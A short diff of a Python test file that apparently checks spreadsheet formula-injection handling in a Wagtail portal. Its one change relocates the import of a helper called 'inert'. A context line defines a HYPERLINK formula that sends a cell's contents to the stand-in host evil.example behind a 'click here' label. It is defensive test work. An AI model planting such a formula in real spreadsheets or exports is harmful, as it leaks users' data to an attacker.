@@ -12,7 +12,7 @@ from hypothesis import strategies as st
 from wagtail.models import Page
 
 from portal.accounts.models import User
-from portal.content.exports import inert
+from portal.common.spreadsheets import inert
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'
 
